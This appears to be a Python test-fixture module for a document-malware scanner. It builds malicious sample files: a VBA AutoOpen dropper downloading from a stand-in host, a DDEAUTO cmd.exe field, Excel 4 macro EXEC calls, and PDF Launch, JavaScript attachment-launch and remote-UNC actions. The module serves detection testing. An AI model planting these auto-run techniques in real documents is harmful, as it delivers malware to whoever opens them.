"""Documents with what attackers hide in documents."""

import pikepdf

from samplebank.worker.contract import Result
from worker import made_documents as made

SCRIPT = pikepdf.Name.JavaScript
DROPPER = f'Sub AutoOpen()\r\nShell "cmd /c start x"\r\nURLDownloadToFile 0, "{made.HOST}/x"\r\nEnd Sub'
DDE = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;"
WORKBOOKS = {
    "xls": made.xls(made.call(made.EXEC, "calc.exe")),
    "hidden xls": made.xls(made.call(made.EXEC, "calc.exe"), state=2),
    "xlsm": made.xlsm('EXEC("calc.exe")'),
    "xlsb": made.xlsb(made.call(made.EXEC, "calc.exe", is_wide=True)),
    "slk": b'ID;P\nO;E\nNN;NAuto_Open;ER3C2\nC;Y3;X2;EEXEC("calc.exe")\nE\n',
}
PDF_ACTIONS = [
    ({"S": pikepdf.Name.Launch, "F": pikepdf.String("cmd.exe")}, {"pdf-launch"}),
    ({"S": SCRIPT, "JS": pikepdf.String("app.alert(1)")}, {"pdf-script", "pdf-script-autostart"}),
    (
        {"S": SCRIPT, "JS": pikepdf.String("this.exportDataObject({cName: 'a.exe', nLaunch: 2})")},
        {"pdf-script", "pdf-script-autostart", "pdf-opens-attachment"},
    ),
    ({"S": pikepdf.Name.GoToR, "F": pikepdf.String(r"\\evil.example.org\x")}, {"pdf-remote-file"}),
    ({"S": pikepdf.Name.URI, "URI": pikepdf.String(made.HOST)}, {"pdf-address-autostart"}),
]


def found(result: Result) -> set[str]:
    return {finding["name"] for finding in result.result["findings"]}


def tags(result: Result) -> set[str]:
    return {tag.value for tag in result.tags}


def evidence(result: Result, name: str) -> str:
    return next(one.data.decode() for one in result.evidence if one.file_name == name)
